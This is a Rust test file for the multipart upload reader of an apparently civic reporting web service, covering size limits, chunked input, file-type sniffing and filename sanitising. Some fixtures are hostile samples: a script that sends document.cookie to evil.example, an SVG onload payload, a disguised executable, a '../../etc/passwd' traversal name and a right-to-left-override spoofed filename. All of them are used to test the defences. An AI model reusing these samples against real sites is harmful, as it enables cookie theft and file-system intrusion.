//! The reader against real multipart bodies, built by hand the way browsers
//! send them and fed through `actix_multipart` as a socket would deliver them.

use std::cell::Cell;
use std::rc::Rc;

use actix_multipart::Multipart;
use actix_web::error::PayloadError;
use actix_web::http::header::{HeaderMap, HeaderValue, CONTENT_LENGTH, CONTENT_TYPE};
use actix_web::test::TestRequest;
use actix_web::web::Bytes;
use futures_util::stream::{self, StreamExt};
use sha2::{Digest, Sha256};

use super::*;

pub(crate) const TINY_PNG: &[u8] = include_bytes!("testdata/tiny.png");
pub(crate) const TINY_JPEG: &[u8] = include_bytes!("testdata/tiny.jpg");
pub(crate) const TINY_PDF: &[u8] = include_bytes!("testdata/tiny.pdf");

const BOUNDARY: &str = "----CivicDeskFormBoundary7MA4YWxkTrZu0gW";

/// A `multipart/form-data` body, part by part.
#[derive(Default)]
struct Body(Vec<u8>);

impl Body {
    fn part(mut self, disposition: &str, content_type: Option<&str>, data: &[u8]) -> Self {
        self.0
            .extend_from_slice(format!("--{BOUNDARY}\r\n").as_bytes());
        self.0.extend_from_slice(
            format!("Content-Disposition: form-data; {disposition}\r\n").as_bytes(),
        );
        if let Some(ct) = content_type {
            self.0
                .extend_from_slice(format!("Content-Type: {ct}\r\n").as_bytes());
        }
        self.0.extend_from_slice(b"\r\n");
        self.0.extend_from_slice(data);
        self.0.extend_from_slice(b"\r\n");
        self
    }

    fn text(self, name: &str, value: impl AsRef<[u8]>) -> Self {
        self.part(&format!("name=\"{name}\""), None, value.as_ref())
    }

    fn file(self, name: &str, filename: &str, content_type: &str, data: impl AsRef<[u8]>) -> Self {
        self.part(
            &format!("name=\"{name}\"; filename=\"{filename}\""),
            Some(content_type),
            data.as_ref(),
        )
    }

    fn finish(mut self) -> Vec<u8> {
        self.0
            .extend_from_slice(format!("--{BOUNDARY}--\r\n").as_bytes());
        self.0
    }
}

fn headers() -> HeaderMap {
    let (req, _) = TestRequest::post()
        .insert_header((
            CONTENT_TYPE,
            format!("multipart/form-data; boundary={BOUNDARY}"),
        ))
        .to_http_parts();
    req.headers().clone()
}

/// The whole body as the request's payload, as actix-web hands it over.
fn multipart(body: Vec<u8>) -> Multipart {
    let (req, payload) = TestRequest::post()
        .insert_header((
            CONTENT_TYPE,
            format!("multipart/form-data; boundary={BOUNDARY}"),
        ))
        .set_payload(body)
        .to_http_parts();
    Multipart::new(req.headers(), payload)
}

/// The body arriving `size` bytes at a time.
fn multipart_in_chunks(body: Vec<u8>, size: usize) -> Multipart {
    let chunks: Vec<Result<Bytes, PayloadError>> = body
        .chunks(size)
        .map(|c| Ok(Bytes::copy_from_slice(c)))
        .collect();
    Multipart::new(&headers(), stream::iter(chunks))
}

fn limits() -> UploadLimits {
    UploadLimits {
        max_files: 5,
        max_file_bytes: 16 * 1024,
        max_total_bytes: 256 * 1024,
        max_field_bytes: 1024,
        max_fields: 20,
    }
}

async fn read(body: Vec<u8>) -> Result<MultipartForm, UploadError> {
    read_multipart(multipart(body), &limits()).await
}

/// `len` bytes that start like a PNG.
fn png_of_len(len: usize) -> Vec<u8> {
    let mut data = TINY_PNG.to_vec();
    data.resize(len, 0x42);
    data
}

fn sha256(data: &[u8]) -> [u8; 32] {
    Sha256::digest(data).into()
}

#[actix_web::test]
async fn reads_a_normal_form_with_two_files() {
    let body = Body::default()
        .text("category", "pothole")
        .text("description", "Deep hole on Mill Lane — outside no. 12")
        .file("photos", "pothole.jpg", "image/jpeg", TINY_JPEG)
        .file("photos", "where.pdf", "application/pdf", TINY_PDF)
        .text("consent", "yes")
        .finish();

    let form = read(body.clone()).await.expect("form");
    assert_eq!(form.get("category"), Some("pothole"));
    assert_eq!(
        form.get("description"),
        Some("Deep hole on Mill Lane — outside no. 12")
    );
    assert_eq!(form.get("consent"), Some("yes"));
    assert_eq!(form.get("photos"), None, "files are not text fields");
    assert!(form.file_problems.is_empty(), "{:?}", form.file_problems);
    assert_eq!(form.files.len(), 2);

    let photo = &form.files[0];
    assert_eq!(photo.filename, "pothole.jpg");
    assert_eq!(photo.content_type, IMAGE_JPEG);
    assert_eq!(&photo.data[..], TINY_JPEG);
    assert_eq!(photo.sha256, sha256(TINY_JPEG));
    assert_eq!(photo.size_bytes(), TINY_JPEG.len());
    let pdf = &form.files[1];
    assert_eq!(pdf.filename, "where.pdf");
    assert_eq!(pdf.content_type, APPLICATION_PDF);
    assert_eq!(&pdf.data[..], TINY_PDF);
    assert_eq!(pdf.sha256, sha256(TINY_PDF));

    // However the body is split on the way in, the result is the same.
    for size in [1, 7, 64, 1000] {
        let chunked = read_multipart(multipart_in_chunks(body.clone(), size), &limits())
            .await
            .expect("chunked form");
        assert_eq!(chunked, form, "chunks of {size}");
    }
}

#[actix_web::test]
async fn a_renamed_executable_or_web_page_called_photo_jpg_is_unsupported() {
    let mut exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
    exe.resize(4 * SNIFF_BYTES, 0);
    let html = "<!DOCTYPE html><html><body><script>document.location='https://evil.example/?'+document.cookie</script>";
    let svg = r#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>"#;
    let body = Body::default()
        .text("category", "fly_tipping")
        .file("photos", "photo.jpg", "image/jpeg", &exe)
        .file("photos", "photo.jpg", "image/jpeg", html)
        .file("photos", "map.png", "image/png", svg)
        .text("postcode", "AB1 2CD")
        .finish();

    let form = read(body).await.expect("form");
    assert!(form.files.is_empty(), "{:?}", form.files);
    let unsupported = |name: &str| FileProblem::UnsupportedType {
        filename: name.into(),
    };
    assert_eq!(
        form.file_problems,
        vec![
            unsupported("photo.jpg"),
            unsupported("photo.jpg"),
            unsupported("map.png")
        ]
    );
    assert_eq!(form.get("category"), Some("fly_tipping"));
    assert_eq!(form.get("postcode"), Some("AB1 2CD"));
}

#[actix_web::test]
async fn real_png_jpeg_and_pdf_files_are_each_recognised_whatever_the_client_says() {
    let body = Body::default()
        .file("photos", "IMG_0001", "application/octet-stream", TINY_JPEG)
        .file("photos", "screenshot.PNG", "text/html", TINY_PNG)
        .file("photos", "letter.txt", "text/plain", TINY_PDF)
        .finish();

    let form = read(body).await.expect("form");
    assert!(form.file_problems.is_empty(), "{:?}", form.file_problems);
    let got: Vec<(&str, &str)> = form
        .files
        .iter()
        .map(|f| (f.filename.as_str(), f.content_type))
        .collect();
    assert_eq!(
        got,
        vec![
            ("IMG_0001.jpg", IMAGE_JPEG),
            ("screenshot.PNG", IMAGE_PNG),
            ("letter.txt.pdf", APPLICATION_PDF),
        ]
    );
}

#[actix_web::test]
async fn six_files_keep_the_first_five_and_report_too_many() {
    let mut body = Body::default().text("category", "graffiti");
    for i in 1..=6 {
        body = body.file("photos", &format!("wall-{i}.png"), "image/png", TINY_PNG);
    }
    let form = read(body.text("consent", "yes").finish())
        .await
        .expect("form");

    let names: Vec<&str> = form.files.iter().map(|f| f.filename.as_str()).collect();
    assert_eq!(
        names,
        [
            "wall-1.png",
            "wall-2.png",
            "wall-3.png",
            "wall-4.png",
            "wall-5.png"
        ]
    );
    assert_eq!(form.file_problems, vec![FileProblem::TooMany { max: 5 }]);
    assert_eq!(form.get("consent"), Some("yes"));

    // Reported once, however many more there are.
    let mut body = Body::default();
    for i in 1..=9 {
        body = body.file("photos", &format!("{i}.png"), "image/png", TINY_PNG);
    }
    let form = read(body.finish()).await.expect("form");
    assert_eq!(form.files.len(), 5);
    assert_eq!(form.file_problems, vec![FileProblem::TooMany { max: 5 }]);
}

#[actix_web::test]
async fn an_oversized_file_is_too_large_while_the_rest_of_the_form_survives() {
    let max = limits().max_file_bytes;
    let body = Body::default()
        .text("category", "pothole")
        .file("photos", "huge.png", "image/png", png_of_len(max + 1))
        .file("photos", "small.jpg", "image/jpeg", TINY_JPEG)
        .file("photos", "just-fits.png", "image/png", png_of_len(max))
        .text("description", "See photos")
        .finish();

    let form = read(body.clone()).await.expect("form");
    assert_eq!(
        form.file_problems,
        vec![FileProblem::TooLarge {
            filename: "huge.png".into(),
            max_bytes: max
        }]
    );
    let names: Vec<&str> = form.files.iter().map(|f| f.filename.as_str()).collect();
    assert_eq!(names, ["small.jpg", "just-fits.png"]);
    assert_eq!(form.files[1].data.len(), max);
    assert_eq!(form.get("category"), Some("pothole"));
    assert_eq!(form.get("description"), Some("See photos"));

    let chunked = read_multipart(multipart_in_chunks(body, 333), &limits())
        .await
        .expect("chunked form");
    assert_eq!(chunked, form);
}

#[actix_web::test]
async fn a_body_over_the_total_is_body_too_large() {
    let limits = UploadLimits {
        max_total_bytes: 40 * 1024,
        ..limits()
    };
    // Each file is allowed on its own; together they are too much.
    let mut body = Body::default().text("category", "pothole");
    for i in 0..3 {
        body = body.file(
            "photos",
            &format!("{i}.png"),
            "image/png",
            png_of_len(15 * 1024),
        );
    }
    let err = read_multipart(multipart(body.finish()), &limits)
        .await
        .unwrap_err();
    assert!(matches!(err, UploadError::BodyTooLarge), "{err:?}");
    assert_eq!(err.status_code(), StatusCode::PAYLOAD_TOO_LARGE);
}

/// The first bytes of a body whose last part never ends, and a count of
/// the bytes the reader pulled.
fn endless_part(disposition: &str) -> (Multipart, Rc<Cell<usize>>) {
    static FILLER: [u8; 4096] = [b'a'; 4096];
    let mut head = Body::default().text("category", "noise").0;
    head.extend_from_slice(
        format!("--{BOUNDARY}\r\nContent-Disposition: form-data; {disposition}\r\n\r\n").as_bytes(),
    );
    let pulled = Rc::new(Cell::new(0));
    let counter = Rc::clone(&pulled);
    let body = stream::iter([Ok(Bytes::from(head))])
        .chain(stream::repeat_with(|| Ok(Bytes::from_static(&FILLER))))
        .inspect(move |chunk: &Result<Bytes, PayloadError>| {
            if let Ok(c) = chunk {
                counter.set(counter.get() + c.len());
            }
        });
    (Multipart::new(&headers(), body), pulled)
}

#[actix_web::test]
async fn reading_stops_at_the_total_on_an_endless_body() {
    let limits = limits();
    for disposition in [
        "name=\"photos\"; filename=\"endless.png\"",
        "name=\"description\"",
    ] {
        let (multipart, pulled) = endless_part(disposition);
        let err = read_multipart(multipart, &limits).await.unwrap_err();
        match disposition.contains("filename") {
            // The file is left off as too large and the rest drained, until the total.
            true => assert!(matches!(err, UploadError::BodyTooLarge), "{err:?}"),
            false => assert!(
                matches!(err, UploadError::FieldTooLarge { ref field, .. } if field == "description"),
                "{err:?}"
            ),
        }
        // Never much more than the limit was taken in (at most the parser's buffer).
        assert!(
            pulled.get() <= limits.max_total_bytes + 64 * 1024,
            "pulled {} bytes",
            pulled.get()
        );
    }
}

#[actix_web::test]
async fn invalid_utf8_in_a_text_field_names_the_field() {
    let body = Body::default()
        .text("name", "Zoë")
        .text("description", b"caf\xe9 au lait".as_slice())
        .finish();
    let err = read(body).await.unwrap_err();
    match &err {
        UploadError::InvalidUtf8 { field } => assert_eq!(field, "description"),
        other => panic!("{other:?}"),
    }
    assert_eq!(err.status_code(), StatusCode::BAD_REQUEST);
    assert!(err.to_string().contains("description"));
}

#[actix_web::test]
async fn path_traversal_and_control_characters_in_filenames_are_sanitised() {
    let body = Body::default()
        .file("photos", "../../etc/passwd", "image/png", TINY_PNG)
        .file(
            "photos",
            r"C:\\Users\\Sara\\Pictures\\pothole.jpg",
            "image/jpeg",
            TINY_JPEG,
        )
        // filename* can carry bytes a header cannot: a bell, a newline, an
        // right-to-left override that shows "invoice\u{202E}fdp.exe" as "invoiceexe.pdf".
        .part(
            "name=\"photos\"; filename*=UTF-8''pho%07to%0D%0A.png",
            Some("image/png"),
            TINY_PNG,
        )
        .part(
            "name=\"photos\"; filename*=UTF-8''invoice%E2%80%AEfdp.exe",
            Some("application/pdf"),
            TINY_PDF,
        )
        .file("photos", "..", "image/png", TINY_PNG)
        .finish();
    let form = read(body).await.expect("form");
    assert!(form.file_problems.is_empty(), "{:?}", form.file_problems);
    let names: Vec<&str> = form.files.iter().map(|f| f.filename.as_str()).collect();
    assert_eq!(
        names,
        [
            "passwd.png",
            "pothole.jpg",
            "photo.png",
            "invoicefdp.exe.pdf",
            "attachment.png"
        ]
    );

    // Names are cut to what the table holds, and never empty, even when refused.
    let long = format!("{}.jpg", "x".repeat(400));
    let body = Body::default()
        .file("photos", &long, "image/jpeg", TINY_JPEG)
        .file("photos", "/", "image/png", b"not an image")
        .finish();
    let form = read(body).await.expect("form");
    assert_eq!(form.files[0].filename.chars().count(), MAX_FILENAME_CHARS);
    assert!(form.files[0].filename.ends_with(".jpg"));
    assert_eq!(
        form.file_problems,
        vec![FileProblem::UnsupportedType {
            filename: "attachment".into()
        }]
    );
}

#[actix_web::test]
async fn persian_file_names_sent_as_raw_utf8_are_kept() {
    let body = Body::default()
        .file("photos", "چاله\u{200C}ها.jpg", "image/jpeg", TINY_JPEG)
        .finish();
    let form = read(body).await.expect("form");
    assert_eq!(form.files[0].filename, "چاله\u{200C}ها.jpg");
}

#[actix_web::test]
async fn an_empty_file_input_is_skipped() {
    let body = Body::default()
        .text("category", "streetlight")
        .file("photos", "", "application/octet-stream", b"")
        .file("photos", "", "application/octet-stream", b"")
        .text("consent", "yes")
        .finish();
    let form = read(body).await.expect("form");
    assert!(form.files.is_empty());
    assert!(form.file_problems.is_empty(), "{:?}", form.file_problems);
    assert_eq!(
        form.into_pairs(),
        vec![
            ("category".to_string(), "streetlight".to_string()),
            ("consent".to_string(), "yes".to_string())
        ]
    );
}

#[actix_web::test]
async fn a_chosen_file_with_no_bytes_is_reported_empty() {
    let body = Body::default()
        .file("photos", "blank.jpg", "image/jpeg", b"")
        .file("photos", "", "image/png", TINY_PNG)
        .finish();
    let form = read(body).await.expect("form");
    assert_eq!(
        form.file_problems,
        vec![FileProblem::Empty {
            filename: "blank.jpg".into()
        }]
    );
    // Bytes without a name are still a file.
    assert_eq!(form.files[0].filename, "attachment.png");
}

#[actix_web::test]
async fn repeated_field_names_are_kept_in_order() {
    let body = Body::default()
        .text("bin_type", "general")
        .text("street", "Mill Lane")
        .text("bin_type", "recycling")
        .text("bin_type", "garden")
        .text("empty", "")
        .finish();
    let form = read(body).await.expect("form");
    assert_eq!(form.get("bin_type"), Some("general"));
    assert_eq!(form.get_all("bin_type"), ["general", "recycling", "garden"]);
    assert_eq!(form.get_all("missing"), Vec::<&str>::new());
    assert_eq!(form.get("empty"), Some(""));
    let pairs: Vec<(String, String)> = [
        ("bin_type", "general"),
        ("street", "Mill Lane"),
        ("bin_type", "recycling"),
        ("bin_type", "garden"),
        ("empty", ""),
    ]
    .iter()
    .map(|(n, v)| (n.to_string(), v.to_string()))
    .collect();
    assert_eq!(form.into_pairs(), pairs);
}

#[actix_web::test]
async fn too_many_or_too_long_text_fields_are_refused() {
    let mut body = Body::default();
    for i in 0..=limits().max_fields {
        body = body.text("tag", i.to_string());
    }
    let err = read(body.finish()).await.unwrap_err();
    assert!(matches!(err, UploadError::TooManyFields), "{err:?}");
    assert_eq!(err.status_code(), StatusCode::BAD_REQUEST);

    let body = Body::default()
        .text("description", "x".repeat(limits().max_field_bytes + 1))
        .finish();
    let err = read(body).await.unwrap_err();
    assert!(
        matches!(err, UploadError::FieldTooLarge { ref field, .. } if field == "description"),
        "{err:?}"
    );
    assert_eq!(err.status_code(), StatusCode::PAYLOAD_TOO_LARGE);
    let body = Body::default()
        .text("description", "x".repeat(limits().max_field_bytes))
        .finish();
    assert!(read(body).await.is_ok());
}

#[actix_web::test]
async fn broken_bodies_are_malformed() {
    // Cut off before the closing boundary.
    let mut body = Body::default().text("category", "pothole").finish();
    body.truncate(body.len() - 12);
    let err = read(body).await.unwrap_err();
    assert!(matches!(err, UploadError::Malformed(_)), "{err:?}");

    // A part without a name.
    let body = Body::default()
        .part("filename=\"a.png\"", Some("image/png"), TINY_PNG)
        .finish();
    let err = read(body).await.unwrap_err();
    assert!(matches!(err, UploadError::Malformed(_)), "{err:?}");
    assert_eq!(err.status_code(), StatusCode::BAD_REQUEST);

    // Not multipart at all.
    let (req, payload) = TestRequest::post()
        .insert_header((CONTENT_TYPE, "application/x-www-form-urlencoded"))
        .set_payload("a=b")
        .to_http_parts();
    let err = read_multipart(Multipart::new(req.headers(), payload), &limits())
        .await
        .unwrap_err();
    assert!(matches!(err, UploadError::Malformed(_)), "{err:?}");
}

#[actix_web::test]
async fn multipart_from_request_caps_the_raw_body() {
    let limits = limits();
    // A declared length over the cap is refused before anything is read.
    let mut declared = headers();
    declared.insert(
        CONTENT_LENGTH,
        HeaderValue::from(limits.raw_body_limit() as u64 + 1),
    );
    let body = stream::iter(Vec::<Result<Bytes, PayloadError>>::new());
    assert!(matches!(
        multipart_from_request(&declared, body, &limits),
        Err(UploadError::BodyTooLarge)
    ));

    // A preamble that never reaches the first boundary: actix-multipart
    // would skip it for ever; the cap stops it.
    static LINE: &[u8] = b"padding padding padding padding\r\n";
    let endless = stream::repeat_with(|| Ok(Bytes::from_static(LINE)));
    let multipart = multipart_from_request(&headers(), endless, &limits).expect("reader");
    let err = read_multipart(multipart, &limits).await.unwrap_err();
    assert!(matches!(err, UploadError::BodyTooLarge), "{err:?}");

    // An ordinary form passes through unchanged.
    let body = Body::default()
        .text("category", "pothole")
        .file("photos", "p.png", "image/png", TINY_PNG)
        .finish();
    let chunks = stream::iter([Ok::<_, PayloadError>(Bytes::from(body))]);
    let multipart = multipart_from_request(&headers(), chunks, &limits).expect("reader");
    let form = read_multipart(multipart, &limits).await.expect("form");
    assert_eq!(form.files.len(), 1);
}

#[test]
fn problems_read_as_a_citizen_would_understand_them() {
    let too_large = FileProblem::TooLarge {
        filename: "holiday.heic".into(),
        max_bytes: 10 * 1024 * 1024,
    };
    assert_eq!(
        too_large.to_string(),
        "“holiday.heic” is too large. Each file can be up to 10 MB."
    );
    assert!(FileProblem::TooMany { max: 5 }
        .to_string()
        .contains("up to 5 files"));
    assert!(FileProblem::UnsupportedType {
        filename: "x.svg".into()
    }
    .to_string()
    .contains("“x.svg” is not a photo or PDF"));
    assert!(FileProblem::Empty {
        filename: "a.pdf".into()
    }
    .to_string()
    .contains("is empty"));
    assert_eq!(human_size(1536 * 1024), "1.5 MB");
    assert_eq!(human_size(500 * 1024), "500 KB");
}

#[test]
fn limits_follow_the_settings_and_bad_values_name_their_key() {
    use crate::configuration::{Environment, Overrides};
    let data_dir = tempfile::tempdir().expect("temp dir");
    let load = |set: &[(&str, &str)]| {
        let mut all: Vec<(String, String)> = set
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect();
        all.push(("security.jwt_secret".into(), "k".repeat(40)));
        Settings::load_for(
            Environment::Test,
            &Overrides {
                data_dir: Some(data_dir.path().to_path_buf()),
                config_dir: Some(concat!(env!("CARGO_MANIFEST_DIR"), "/config").into()),
                set: all,
                ..Overrides::default()
            },
        )
    };

    let defaults = UploadLimits::from_settings(&load(&[]).expect("settings"));
    assert_eq!(defaults.max_files, 5);
    assert_eq!(defaults.max_file_bytes, 10 * 1024 * 1024);
    assert_eq!(
        defaults.max_total_bytes,
        5 * 10 * 1024 * 1024 + UploadLimits::FORM_ALLOWANCE_BYTES
    );

    let settings =
        load(&[("uploads.max_files", "2"), ("uploads.max_file_mb", "3")]).expect("settings");
    let limits = UploadLimits::from_settings(&settings);
    assert_eq!(
        (limits.max_files, limits.max_file_bytes),
        (2, 3 * 1024 * 1024)
    );

    let err = load(&[("uploads.max_files", "0"), ("uploads.max_file_mb", "51")]).unwrap_err();
    assert!(err.mentions("uploads.max_files"), "{err}");
    assert!(err.mentions("uploads.max_file_mb"), "{err}");
    let err = load(&[("uploads.max_files", "21")]).unwrap_err();
    assert!(err.to_string().contains("between 1 and 20"), "{err}");
}

#[test]
fn buffers_never_grow_past_their_limit() {
    let cap = 100_000;
    let mut buf = Vec::new();
    for _ in 0..(cap / 999) {
        append_bounded(&mut buf, &[7; 999], cap);
        assert!(buf.capacity() <= cap, "capacity {}", buf.capacity());
    }
    let rest = vec![7; cap - buf.len()];
    append_bounded(&mut buf, &rest, cap);
    assert_eq!((buf.len(), buf.capacity()), (cap, cap));
}
